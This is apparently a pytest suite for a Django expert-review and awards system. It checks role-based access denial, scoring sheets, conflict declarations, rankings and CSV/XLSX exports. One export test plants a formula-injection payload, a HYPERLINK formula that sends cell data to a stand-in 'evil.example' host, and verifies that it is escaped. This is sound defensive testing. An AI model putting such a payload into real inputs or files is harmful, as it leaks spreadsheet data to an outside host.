"""Every review URL: the happy path, and denial for applicants, unassigned experts, conflicted experts and
committee members (and anonymous visitors)."""

import datetime as dt
import io
from unittest import mock

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from awards.enums import ApplicationStatus, CycleRole
from reviews.enums import AssignmentStatus, SheetStatus
from reviews.models import Assignment, Consensus, ItemScore, ScoreSheet
from tests.factories.awards import CycleMembershipFactory
from tests.factories.core import UserFactory
from tests.factories.reviews import AssignmentFactory, ExpertProfileFactory, framework_items, submitted_sheet

pytestmark = pytest.mark.django_db

DENIED = ["applicant_a", "applicant_b", "outsider_expert", "conflicted_expert", "committee_member"]


@pytest.fixture
def outsider_expert(cycle):
    """An expert of the cycle who is on no panel."""
    user = CycleMembershipFactory(
        cycle=cycle, role=CycleRole.EXPERT, user=UserFactory(email="out@pool.example.cn")
    ).user
    ExpertProfileFactory(user=user)
    return user


@pytest.fixture
def urls(review, cycle, material_round):
    panel, lead, _peers = review
    item = framework_items(cycle)[0]
    sheet = submitted_sheet(_peers[0], 50)
    return {
        "declare": ("get", reverse("reviews:declare", args=[lead.pk])),
        "sheet": ("get", reverse("reviews:sheet", args=[lead.pk])),
        "autosave": ("post", reverse("reviews:autosave", args=[lead.pk])),
        "panel": ("get", reverse("reviews:panel", args=[panel.pk])),
        "consensus": ("post", reverse("reviews:consensus", args=[panel.pk, item.pk])),
        "cycles": ("get", reverse("reviews:cycles")),
        "cycle": ("get", reverse("reviews:cycle", args=[cycle.pk])),
        "round_edit": ("get", reverse("reviews:round_edit", args=[cycle.pk, "material"])),
        "panels": ("get", reverse("reviews:panels", args=[material_round.pk])),
        "panel_edit": ("get", reverse("reviews:panel_edit", args=[material_round.pk, panel.application_id])),
        "sheet_reopen": ("get", reverse("reviews:sheet_reopen", args=[sheet.pk])),
        "ranking": ("get", reverse("reviews:ranking", args=[cycle.pk])),
        "ranking_decide": ("post", reverse("reviews:ranking_decide", args=[cycle.pk, "material"])),
        "export_csv": ("get", reverse("reviews:export", args=[cycle.pk, "csv"])),
        "export_xlsx": ("get", reverse("reviews:export", args=[cycle.pk, "xlsx"])),
        "experts": ("get", reverse("reviews:experts", args=[cycle.pk])),
    }


@pytest.mark.parametrize("role", DENIED)
@pytest.mark.parametrize(
    "name",
    [
        "declare",
        "sheet",
        "autosave",
        "panel",
        "consensus",
        "cycles",
        "cycle",
        "round_edit",
        "panels",
        "panel_edit",
        "sheet_reopen",
        "ranking",
        "ranking_decide",
        "export_csv",
        "export_xlsx",
        "experts",
    ],
)
def test_every_review_url_is_denied(request, client_for, urls, role, name):
    user = request.getfixturevalue(role)
    method, url = urls[name]
    response = getattr(client_for(user), method)(url)
    assert response.status_code in (403, 404), f"{role} reached {name}"


@pytest.mark.parametrize("name", ["my_work", "profile"])
@pytest.mark.parametrize("role", ["applicant_a", "committee_member"])
def test_expert_pages_denied_to_non_experts(request, client_for, role, name):
    response = client_for(request.getfixturevalue(role)).get(reverse(f"reviews:{name}"))
    assert response.status_code == 403


@pytest.mark.parametrize("name", ["declare", "sheet", "panel", "cycle", "ranking", "experts"])
def test_anonymous_goes_to_login(anonymous, urls, name):
    response = anonymous.get(urls[name][1])
    assert response.status_code == 302 and "/accounts/login/" in response["Location"]


def test_conflicted_assignment_is_gone_for_its_expert(client_for, review, conflicted_expert):
    panel, _lead, _peers = review
    a = AssignmentFactory(panel=panel, expert=conflicted_expert, status=AssignmentStatus.CONFLICT)
    c = client_for(conflicted_expert)
    assert c.get(reverse("reviews:sheet", args=[a.pk])).status_code == 404
    assert c.get(reverse("reviews:declare", args=[a.pk])).status_code == 404
    assert c.post(reverse("reviews:autosave", args=[a.pk])).status_code == 404
    assert c.get(reverse("reviews:panel", args=[panel.pk])).status_code == 403


def test_unsubmitted_member_does_not_see_panel_scores(client_for, review, other_experts):
    panel, _lead, _peers = review
    assert client_for(other_experts[1]).get(reverse("reviews:panel", args=[panel.pk])).status_code == 403


# ---------------------------------------------------------------- happy paths


def test_my_work_and_profile(client_for, review, expert):
    c = client_for(expert)
    page = c.get(reverse("reviews:my_work"))
    assert page.status_code == 200 and "郴州甲企业有限公司" in page.content.decode()
    response = c.post(
        reverse("reviews:profile"),
        {
            "title": "教授",
            "employer": "湘南学院",
            "employer_credit_code": "",
            "industries": ["C"],
            "district": "431002",
            "past_clients": "91350100M000100Y43 福州某公司\nNOTACODE x",
        },
    )
    assert response.status_code == 200 and "NOTACODE" in response.content.decode()  # refused, kept what was typed
    response = c.post(
        reverse("reviews:profile"),
        {
            "title": "教授",
            "employer": "湘南学院",
            "employer_credit_code": "",
            "industries": ["C"],
            "district": "431002",
            "past_clients": "91350100M000100Y43 福州某公司",
        },
    )
    assert response.status_code == 302
    assert expert.expert_profile.past_clients.get().name == "福州某公司"


def test_declaration_then_material_is_shown(client_for, review, expert):
    _panel, lead, _peers = review
    Assignment.objects.filter(pk=lead.pk).update(status=AssignmentStatus.PENDING)
    c = client_for(expert)
    # no material before the declaration: the sheet sends the expert to declare
    response = c.get(reverse("reviews:sheet", args=[lead.pk]))
    assert response.status_code == 302 and response["Location"].endswith("/declare/")
    page = c.get(reverse("reviews:declare", args=[lead.pk])).content.decode()
    assert "91431002" not in page  # the credit code (material) is not shown yet
    response = c.post(reverse("reviews:declare", args=[lead.pk]), {"declaration": "conflict", "reason": ""})
    assert (
        response.status_code == 200
        and "Please say" in response.content.decode()
        or "请说明" in response.content.decode()
    )
    response = c.post(reverse("reviews:declare", args=[lead.pk]), {"declaration": "none"})
    assert response.status_code == 302
    page = c.get(reverse("reviews:sheet", args=[lead.pk])).content.decode()
    assert lead.panel.application.enterprise.credit_code in page


def test_no_material_or_sheet_before_the_round_opens(client_for, review, expert):
    _panel, lead, _peers = review
    lead.status = AssignmentStatus.ACCEPTED
    lead.save(update_fields=["status"])
    rnd = lead.panel.round
    rnd.opens_at = timezone.now() + dt.timedelta(days=5)
    rnd.save(update_fields=["opens_at"])
    c = client_for(expert)
    response = c.get(reverse("reviews:sheet", args=[lead.pk]), follow=True)
    page = response.content.decode()
    assert response.redirect_chain and lead.panel.application.enterprise.credit_code not in page
    assert "This round opens on" in page or "本轮评审" in page
    response = c.post(reverse("reviews:sheet", args=[lead.pk]), {"action": "save"})
    assert response.status_code == 302 and not ItemScore.objects.exists()


def test_sheet_post_invalid_keeps_typed_values(client_for, review, expert, cycle):
    _panel, lead, _peers = review
    items = framework_items(cycle)
    data = {
        f"item-{items[0].pk}": "65",
        f"item-{items[1].pk}": "63",
        f"item-{items[2].pk}": "150",
        "overall_comment": "我的意见",
        "action": "save",
    }
    response = client_for(expert).post(reverse("reviews:sheet", args=[lead.pk]), data)
    assert response.status_code == 400
    html = response.content.decode()
    assert 'value="65"' in html and "我的意见" in html
    assert 'value="63"' in html and 'value="150"' in html  # the wrong values stay, next to their errors
    assert not ItemScore.objects.exists()


def test_sheet_submit_incomplete_lists_missing_then_complete(client_for, review, expert, cycle):
    _panel, lead, _peers = review
    items = framework_items(cycle)
    data = {f"item-{i.pk}": "70" for i in items[:-1]} | {"action": "submit"}
    c = client_for(expert)
    response = c.post(reverse("reviews:sheet", args=[lead.pk]), data)
    assert response.status_code == 400 and "4.7.7" in response.content.decode()
    assert ItemScore.objects.count() == 22  # the draft was kept
    data[f"item-{items[-1].pk}"] = "70"
    response = c.post(reverse("reviews:sheet", args=[lead.pk]), data)
    assert response.status_code == 302
    assert ScoreSheet.objects.get(assignment=lead).status == SheetStatus.SUBMITTED


def test_autosave(client_for, review, expert, cycle):
    _panel, lead, _peers = review
    item = framework_items(cycle)[0]
    c = client_for(expert)
    response = c.post(reverse("reviews:autosave", args=[lead.pk]), {f"item-{item.pk}": "80"}, HTTP_HX_REQUEST="true")
    assert response.status_code == 200 and "40.00" in response.content.decode()
    assert ItemScore.objects.get().percent == 80
    response = c.post(reverse("reviews:autosave", args=[lead.pk]), {f"item-{item.pk}": "81"}, HTTP_HX_REQUEST="true")
    assert "4.1.2" in response.content.decode()
    assert ItemScore.objects.get().percent == 80


def test_panel_page_and_consensus(client_for, review, expert, secretary, cycle):
    panel, lead, peers = review
    submitted_sheet(lead, 40)
    for a, v in zip(peers, [50, 55, 60, 80], strict=True):
        submitted_sheet(a, v)
    item = framework_items(cycle)[0]
    page = client_for(expert).get(reverse("reviews:panel", args=[panel.pk]))
    assert page.status_code == 200 and "panel-chart" in page.content.decode()
    response = client_for(expert).post(
        reverse("reviews:consensus", args=[panel.pk, item.pk]), {"percent": "55", "rationale": "讨论后一致"}
    )
    assert response.status_code == 302
    assert Consensus.objects.get().percent == 55
    assert client_for(secretary).get(reverse("reviews:panel", args=[panel.pk])).status_code == 200


def test_office_pages(client_for, review, secretary, cycle, material_round):
    panel, lead, peers = review
    c = client_for(secretary)
    for name, args in [
        ("reviews:cycles", []),
        ("reviews:cycle", [cycle.pk]),
        ("reviews:round_edit", [cycle.pk, "onsite"]),
        ("reviews:panels", [material_round.pk]),
        ("reviews:panel_edit", [material_round.pk, panel.application_id]),
        ("reviews:ranking", [cycle.pk]),
        ("reviews:experts", [cycle.pk]),
    ]:
        assert c.get(reverse(name, args=args)).status_code == 200, name
    response = c.post(
        reverse("reviews:round_edit", args=[cycle.pk, "onsite"]),
        {"opens_at": "2030-01-10T09:00", "closes_at": "2030-01-01T09:00"},
    )
    assert response.status_code == 200 and 'value="2030-01-10T09:00"' in response.content.decode()


def test_reopen_view(client_for, review, secretary):
    _panel, lead, _peers = review
    sheet = submitted_sheet(lead, 50)
    response = client_for(secretary).post(reverse("reviews:sheet_reopen", args=[sheet.pk]), {"reason": "录入错误"})
    assert response.status_code == 302
    sheet.refresh_from_db()
    assert sheet.status == SheetStatus.DRAFT


def test_invite_view(client_for, cycle, secretary, django_capture_on_commit_callbacks):
    pool = ExpertProfileFactory(user=UserFactory(email="pool@pool.example.cn"))
    with django_capture_on_commit_callbacks(execute=True):
        response = client_for(secretary).post(reverse("reviews:experts", args=[cycle.pk]), {"expert": pool.user_id})
    assert response.status_code == 302
    assert cycle.memberships.filter(user=pool.user, role=CycleRole.EXPERT).exists()


def test_exports(client_for, review, secretary, cycle):
    panel, lead, peers = review
    for a in [lead, *peers]:
        submitted_sheet(a, 60)
    c = client_for(secretary)
    response = c.get(reverse("reviews:export", args=[cycle.pk, "csv"]))
    assert response.streaming and response["Content-Type"] == "text/csv; charset=utf-8"
    body = b"".join(response.streaming_content)
    assert body.startswith("\ufeff".encode())
    text = body.decode("utf-8-sig")
    assert "郴州甲企业有限公司" in text and "600.00" in text
    assert text.count("4.1.2") == 5  # one row per expert for the item
    response = c.get(reverse("reviews:export", args=[cycle.pk, "xlsx"]))
    wb = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    ranking, scores = wb.worksheets
    assert ranking.cell(2, 2).value == "郴州甲企业有限公司" and ranking.cell(2, 6).value == 600.0
    assert scores.max_row == 1 + 5 * 23
    assert ranking.freeze_panes == "A2" and scores.freeze_panes == "A2"
    assert ranking.cell(1, 1).font.b and not ranking.cell(2, 1).font.b


def test_exports_write_formula_like_names_as_text(client_for, review, secretary, cycle):
    panel, lead, peers = review
    for a in [lead, *peers]:
        submitted_sheet(a, 60)
    enterprise = panel.application.enterprise
    enterprise.name_en = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    enterprise.name_zh = "+86 郴州甲企业"
    enterprise.save(update_fields=["name_en", "name_zh"])
    c = client_for(secretary)
    text = b"".join(c.get(reverse("reviews:export", args=[cycle.pk, "csv"])).streaming_content).decode("utf-8-sig")
    assert "'=HYPERLINK" in text and "'+86 郴州甲企业" in text
    assert ",=HYPERLINK" not in text and ',"=HYPERLINK' not in text
    wb = load_workbook(
        io.BytesIO(b"".join(c.get(reverse("reviews:export", args=[cycle.pk, "xlsx"])).streaming_content))
    )
    ranking, scores = wb.worksheets
    cells = [ranking.cell(2, 2), ranking.cell(2, 3), scores.cell(2, 3)]
    assert all(cell.data_type == "s" for cell in cells)
    assert ranking.cell(2, 3).value.startswith("'=HYPERLINK")
    assert ranking.cell(2, 6).value == 600.0  # numbers stay numbers


def test_csv_export_streams_whole_lines_in_pieces(review, cycle):
    from reviews.exports import ranking_csv_lines

    panel, lead, peers = review
    for a in [lead, *peers]:
        submitted_sheet(a, 60)
    small = list(ranking_csv_lines(cycle=cycle, chunk=200))
    whole = list(ranking_csv_lines(cycle=cycle, chunk=10**9))
    assert len(whole) == 1 and whole[0].startswith("\ufeff")
    assert len(small) > 10 and all(p.endswith("\r\n") for p in small)
    assert "".join(small) == "".join(whole)


def test_ranking_decide_view(client_for, review, secretary, cycle):
    panel, lead, peers = review
    for a in [lead, *peers]:
        submitted_sheet(a, 60)
    c = client_for(secretary)
    response = c.post(reverse("reviews:ranking_decide", args=[cycle.pk, "material"]), {"material-mode": "top_n"})
    assert response.status_code == 302
    panel.application.refresh_from_db()
    assert panel.application.status == ApplicationStatus.MATERIAL_REVIEW  # refused: no N
    c.post(
        reverse("reviews:ranking_decide", args=[cycle.pk, "material"]),
        {"material-mode": "top_n", "material-top_n": "1"},
    )
    panel.application.refresh_from_db()
    assert panel.application.status == ApplicationStatus.ONSITE_REVIEW


def test_scoring_after_close_refused_and_typed_values_kept(client_for, review, expert, cycle, material_round):
    import datetime as dt

    from django.utils import timezone

    _panel, lead, _peers = review
    material_round.closes_at = timezone.now() - dt.timedelta(hours=1)
    material_round.save()
    item = framework_items(cycle)[0]
    response = client_for(expert).post(
        reverse("reviews:sheet", args=[lead.pk]), {f"item-{item.pk}": "75", "overall_comment": "保留我的文字"}
    )
    assert response.status_code == 400
    html = response.content.decode()
    assert 'value="75"' in html and "保留我的文字" in html
    assert not ItemScore.objects.exists()


def test_invite_a_new_expert_by_email(client_for, cycle, secretary, django_capture_on_commit_callbacks):
    from django.core import mail

    from core.models import User

    c = client_for(secretary)
    response = c.post(reverse("reviews:experts", args=[cycle.pk]), {"email": "new.expert@pool.example.cn"})
    assert response.status_code == 200  # the name is missing; the address typed is kept
    assert "new.expert@pool.example.cn" in response.content.decode()
    with django_capture_on_commit_callbacks(execute=True):
        response = c.post(
            reverse("reviews:experts", args=[cycle.pk]), {"email": "New.Expert@pool.example.cn", "full_name": "新专家"}
        )
    assert response.status_code == 302
    user = User.objects.get(email="new.expert@pool.example.cn")
    assert user.expert_profile and user.full_name == "新专家"
    assert cycle.memberships.filter(user=user, role=CycleRole.EXPERT).exists()
    assert "/accounts/password_reset/" in mail.outbox[0].body
    response = c.post(reverse("reviews:experts", args=[cycle.pk]), {})
    assert response.status_code == 200 and not mail.outbox[1:]


def test_panel_form_marks_conflicts_and_refuses_them(
    client_for, review, secretary, conflicted_expert, material_round, expert
):
    panel, _lead, _peers = review
    url = reverse("reviews:panel_edit", args=[material_round.pk, panel.application_id])
    c = client_for(secretary)
    page = c.get(url).content.decode()
    assert "存在利益冲突" in page or "CONFLICT OF INTEREST" in page
    response = c.post(url, {"experts": [conflicted_expert.pk, expert.pk], "leader": expert.pk})
    assert response.status_code == 200
    assert not panel.assignments.filter(expert=conflicted_expert).exists()


def _csv_tables(text: str) -> list[tuple[str, list[list[str]]]]:
    """The CSV export split into its tables: [(title, [header, *rows])], tables parted by an empty line."""
    import csv

    tables, current = [], None
    for row in csv.reader(io.StringIO(text)):
        if not row:
            current = None
        elif current is None:
            current = (row[0], [])
            tables.append(current)
        else:
            current[1].append(row)
    return tables


def _same_cell(xlsx_value, csv_value: str) -> bool:
    if xlsx_value is None:
        return csv_value == ""
    if isinstance(xlsx_value, bool) or not isinstance(xlsx_value, int | float):
        return str(xlsx_value) == csv_value
    return float(csv_value) == float(xlsx_value)


def test_streamed_xlsx_matches_the_csv_cell_by_cell(client_for, review, secretary, cycle):
    panel, lead, peers = review
    for n, a in enumerate([lead, *peers]):
        submitted_sheet(a, 50 + 5 * n)
    c = client_for(secretary)
    text = b"".join(c.get(reverse("reviews:export", args=[cycle.pk, "csv"])).streaming_content).decode("utf-8-sig")
    response = c.get(reverse("reviews:export", args=[cycle.pk, "xlsx"]))
    assert response.streaming and response["Content-Disposition"].startswith("attachment;")
    wb = load_workbook(io.BytesIO(b"".join(response.streaming_content)), read_only=True)
    tables = _csv_tables(text)
    assert [t for t, _rows in tables] == wb.sheetnames
    checked = 0
    for (title, csv_rows), ws in zip(tables, wb.worksheets, strict=True):
        xlsx_rows = [list(r) for r in ws.iter_rows(values_only=True)]
        assert len(xlsx_rows) == len(csv_rows), title
        for xr, cr in zip(xlsx_rows, csv_rows, strict=True):
            assert len(xr) == len(cr)
            for xv, cv in zip(xr, cr, strict=True):
                assert _same_cell(xv, cv), (title, xv, cv)
                checked += 1
    assert len(tables[1][1]) == 1 + 5 * 23  # header and every item score of the five experts
    assert checked > 5 * 23 * 9


def test_sheet_of_a_closed_round_is_read_only_and_says_why(client_for, review, expert, cycle, material_round):
    _panel, lead, _peers = review
    material_round.closes_at = timezone.now() - dt.timedelta(hours=1)
    material_round.save()
    html = client_for(expert).get(reverse("reviews:sheet", args=[lead.pk])).content.decode()
    assert "sheet-closed" in html
    assert timezone.localtime(material_round.closes_at).strftime("%Y-%m-%d %H:%M") in html
    assert 'value="submit"' not in html and 'value="save"' not in html
    assert "hx-post" not in html  # no autosave either
    assert html.count("disabled") >= len(framework_items(cycle)[0].category.framework.categories.all())


def test_sheet_of_an_open_round_is_editable(client_for, review, expert):
    _panel, lead, _peers = review
    html = client_for(expert).get(reverse("reviews:sheet", args=[lead.pk])).content.decode()
    assert "sheet-closed" not in html and 'value="submit"' in html and "hx-post" in html


def test_profile_keeps_the_time_zone_for_the_mails(client_for, review, expert):
    data = {"title": "教授", "employer": "湘南学院", "industries": ["C"], "time_zone": "Europe/Berlin"}
    assert client_for(expert).post(reverse("reviews:profile"), data).status_code == 302
    expert.expert_profile.refresh_from_db()
    assert expert.expert_profile.time_zone == "Europe/Berlin"
    page = client_for(expert).get(reverse("reviews:profile")).content.decode()
    assert '<option value="Europe/Berlin" selected>' in page


def test_a_double_clicked_conflict_declaration_answers_with_a_message(client_for, review, expert):
    _panel, lead, _peers = review
    Assignment.objects.filter(pk=lead.pk).update(status=AssignmentStatus.PENDING)
    c = client_for(expert)
    url = reverse("reviews:declare", args=[lead.pk])
    data = {"declaration": "conflict", "reason": "我曾为该企业提供咨询。"}
    assert c.post(url, data).status_code == 302
    response = c.post(url, data, follow=True)  # the second click
    assert response.status_code == 200 and response.redirect_chain[-1][0] == reverse("reviews:my_work")
    text = [str(m) for m in response.context["messages"]]
    assert any("already recorded" in t or "已记录" in t for t in text)


def test_two_simultaneous_declarations_answer_with_a_message(client_for, review, expert):
    _panel, lead, _peers = review
    Assignment.objects.filter(pk=lead.pk).update(status=AssignmentStatus.PENDING)
    from core.errors import Conflict

    def first_click_won(**kwargs):
        Assignment.objects.filter(pk=lead.pk).update(status=AssignmentStatus.ACCEPTED)
        raise Conflict("already")

    with mock.patch("reviews.services.assignment_declare", first_click_won):
        response = client_for(expert).post(reverse("reviews:declare", args=[lead.pk]), {"declaration": "none"})
    assert response.status_code == 302 and response["Location"] == reverse("reviews:sheet", args=[lead.pk])


def test_sheet_texts_have_a_stated_maximum(client_for, review, expert):
    _panel, lead, _peers = review
    c = client_for(expert)
    page = c.get(reverse("reviews:sheet", args=[lead.pk])).content.decode()
    assert 'maxlength="4000"' in page and "4000" in page
    response = c.post(reverse("reviews:autosave", args=[lead.pk]), {"overall_comment": "长" * 4001})
    assert "4000" in response.content.decode()
    assert not ScoreSheet.objects.filter(assignment=lead, overall_comment__startswith="长").exists()


def test_the_ranking_kept_per_state_shows_a_submitted_panel_at_once(client_for, review, secretary, cycle):
    panel, lead, peers = review
    c = client_for(secretary)
    url = reverse("reviews:ranking", args=[cycle.pk])
    before = c.get(url, HTTP_ACCEPT_LANGUAGE="en").content.decode()
    for a in [lead, *peers]:
        submitted_sheet(a, 60)  # writes the stored panel score, as sheet_submit does: made again
    after = c.get(url, HTTP_ACCEPT_LANGUAGE="en").content.decode()
    assert "600.00" in after and "600.00" not in before


def test_the_ranking_keeps_the_decision_forms_but_draws_each_visitors_csrf_token(client_for, review, secretary, cycle):
    url = reverse("reviews:ranking", args=[cycle.pk])
    other = UserFactory()
    CycleMembershipFactory(cycle=cycle, user=other, role=CycleRole.SECRETARY)
    pages = [client_for(u).get(url, HTTP_ACCEPT_LANGUAGE="en").content.decode() for u in (secretary, other)]
    for html in pages:
        assert html.count('name="csrfmiddlewaretoken"') >= 2
        assert 'name="material-mode"' in html and 'name="onsite-threshold"' in html
        assert html.count('type="submit" data-confirm=') >= 2

    def token(html):
        return html.split('name="csrfmiddlewaretoken" value="', 1)[1].split('"', 1)[0]

    assert token(pages[0]) != token(pages[1])


def test_an_expert_of_the_provincial_pool_gives_a_district_of_any_city(client_for, review, expert):
    c = client_for(expert)
    c.cookies["django_language"] = "en"
    page = c.get(reverse("reviews:profile")).content.decode()
    assert page.count("<optgroup") == 14 and '<option value="430104">Yuelu District</option>' in page
    data = {
        "title": "教授",
        "employer": "中南大学",
        "employer_credit_code": "",
        "industries": ["C"],
        "past_clients": "",
    }
    response = c.post(reverse("reviews:profile"), {**data, "district": "430199"})
    assert response.status_code == 200
    assert "430199 is not a district or county of Hunan province" in response.content.decode()
    assert c.post(reverse("reviews:profile"), {**data, "district": "430104"}).status_code == 302
    expert.expert_profile.refresh_from_db()
    assert expert.expert_profile.district == "430104"
